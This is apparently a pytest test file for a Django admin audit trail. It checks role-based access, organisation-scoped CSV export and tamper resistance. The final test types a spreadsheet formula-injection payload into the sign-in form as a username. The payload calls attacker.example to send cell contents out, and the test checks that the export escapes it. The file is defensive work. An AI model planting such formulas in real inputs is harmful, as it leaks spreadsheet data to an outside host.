"""The audit trail in the back-office: who sees it, filters, CSV export."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from territoire.core import audit
from territoire.core.models import AuditEvent
from territoire.territory.models import Organisation, Role

pytestmark = pytest.mark.django_db
URL = "/admin/core/auditevent/"


@pytest.fixture
def events(organisation: Organisation, other_organisation: Organisation) -> tuple[AuditEvent, AuditEvent]:
    mine = audit.record("test.mine", actor_label="alice", organisation_id=organisation.pk, changes={"n": 1})
    theirs = audit.record("test.theirs", actor_label="bob", organisation_id=other_organisation.pk)
    return mine, theirs


def test_administrator_sees_and_filters_own_organisation_events_only(
    client: Client, organisation: Organisation, make_staff: Callable[..., Any], events: Any
) -> None:
    client.force_login(make_staff(organisation, Role.ADMINISTRATEUR))
    page = client.get(URL).content.decode()
    assert "test.mine" in page
    assert "test.theirs" not in page
    filtered = client.get(URL, {"action": "test.mine"}).content.decode()
    assert "alice" in filtered


@pytest.mark.parametrize("role", [Role.CHEF_PROJET, Role.AGENT, Role.ELU])
def test_other_roles_do_not_see_the_audit_trail(
    client: Client, organisation: Organisation, make_staff: Callable[..., Any], events: Any, role: str
) -> None:
    client.force_login(make_staff(organisation, role))
    assert client.get(URL).status_code == 403


def test_export_csv_of_the_selection(
    client: Client, organisation: Organisation, make_staff: Callable[..., Any], events: Any
) -> None:
    mine, theirs = events
    client.force_login(make_staff(organisation, Role.RSSI))
    response = client.post(URL, {"action": "export_csv", "_selected_action": [mine.pk, theirs.pk]})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["created_at", "actor_label", "action"]
    # The other organisation's event is not exported even when its id is posted.
    assert [r[2] for r in rows[1:]] == ["test.mine"]
    assert rows[1][-1] == '{"n": 1}'


def test_audit_events_cannot_be_changed_from_the_admin(
    client: Client, organisation: Organisation, make_staff: Callable[..., Any], events: Any
) -> None:
    mine, _ = events
    client.force_login(make_staff(organisation, Role.ADMINISTRATEUR))
    client.post(f"{URL}{mine.pk}/change/", {"action": "tampered"})
    client.post(f"{URL}{mine.pk}/delete/", {"post": "yes"})
    mine.refresh_from_db()
    assert mine.action == "test.mine"


def test_a_failed_sign_in_named_as_a_formula_exports_as_text(
    client: Client, organisation: Organisation, make_staff: Callable[..., Any]
) -> None:
    # The attack: a username that a spreadsheet would run, typed into the sign-in form.
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Cliquez")'
    client.post("/admin/login/", {"username": formula, "password": "wrong"})
    event = AuditEvent.objects.filter(actor_label=formula).first() or audit.record(
        "auth.login_failed", actor_label=formula, organisation_id=organisation.pk
    )
    if event.organisation_id is None:  # failed sign-ins belong to no organisation: a superuser exports them
        client.force_login(get_user_model().objects.create_superuser("root", "root@example.org", "x"))
    else:
        client.force_login(make_staff(organisation, Role.RSSI))
    response = client.post(URL, {"action": "export_csv", "_selected_action": [event.pk]})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'" + formula
